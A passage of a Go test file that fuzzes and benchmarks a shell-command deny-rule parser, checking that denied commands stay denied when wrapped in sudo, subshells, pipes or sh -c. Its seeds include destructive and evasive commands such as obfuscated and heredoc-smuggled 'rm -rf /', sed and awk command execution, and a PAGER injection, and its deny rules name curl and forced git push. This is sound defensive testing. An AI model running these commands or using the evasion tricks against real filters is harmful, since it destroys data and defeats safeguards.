			`$'\x72m' -rf`, "echo $(rm -rf /)", "sed 's/a/b/e'", "awk '{system()}'", "PAGER=$X git log", "x <<E\n$(rm -rf /)\nE", "a[$(rm)]=1",
		} {
			f.Add(rule, command)
		}
	}
	f.Fuzz(func(t *testing.T, rule, command string) {
		r, err := compileCommandRule(rule)
		if err != nil {
			r = mustRule(t, "rm -rf")
		}
		line, err := parseCommand(command)
		if err != nil || !r.denies(line) || !isSimple(command) {
			return
		}
		for _, wrap := range []string{"sudo X", "( X )", "true && X", "  X  ", "X | cat", "nohup X", "sh -c 'true; X'"} {
			if strings.HasPrefix(wrap, "sh") && strings.ContainsAny(command, "'\\") {
				continue
			}
			if wrapped := strings.Replace(wrap, "X", command, 1); !denied(r, wrapped) {
				t.Errorf("got %q allowed, want it denied as %q is", wrapped, command)
			}
		}
	})
}

// isSimple reports whether a command is one simple command that can stand
// anywhere.
func isSimple(command string) bool {
	if strings.ContainsAny(command, "\n#;&|(){}<>!`") || strings.HasSuffix(strings.TrimSpace(command), "\\") {
		return false
	}
	_, err := compileCommandRule("x " + command)
	first, _, _ := strings.Cut(strings.TrimSpace(command), " ")
	return err == nil && !strings.Contains(first, "=")
}

func BenchmarkParseCommand(b *testing.B) {
	rules := []commandRule{mustRule(b, "rm -rf"), mustRule(b, "git push --force"), mustRule(b, "curl")}
	for b.Loop() {
		line, err := parseCommand(`cd "$DIR" && go test -race ./... 2>&1 | tail -n 20`)
		if err != nil {
			b.Fatal(err)
		}
		for _, r := range rules {
			if r.denies(line) {
				b.Fatal("got it denied, want it allowed")
			}
		}
	}
}

func BenchmarkHardParse(b *testing.B) {
	for _, part := range []string{"if ", "while ", "x|", "find -exec ", "x&"} {
		command := "eval eval eval '" + strings.Repeat(part, (mostShell-20)/len(part)) + "'"
		b.Run(strings.TrimSpace(part), func(b *testing.B) {
			for b.Loop() {
				_, _ = parseCommand(command)
			}
		})
	}
}

func BenchmarkHardRules(b *testing.B) {
	for _, test := range []struct{ name, rules, command string }{
		{"others", "yN -rf --aN", "rm -v ./a "},
		{"same", "rm -rf /etc/N*/x", "rm -v ./a "},
		{"long", "rm --N -rf", "rm --verbos "},
		{"verbs", "git push --force --N", "git log "},
		{"stars", "rm -v *a*N*b*", "rm aaaaaa "},
	} {
		b.Run(test.name, func(b *testing.B) {
			rules := mustRules(b, test.rules)
			line, err := parseCommand(strings.Repeat(test.command, mostShellWords/(1+strings.Count(test.command, " "))))
			if err != nil || line.unknown != "" {
				b.Fatal(err, line.unknown)
			}
			for b.Loop() {
				for _, r := range rules {
					if r.denies(line) {
						b.Fatal("got it denied, want it allowed")
					}
				}
			}
		})
	}
}
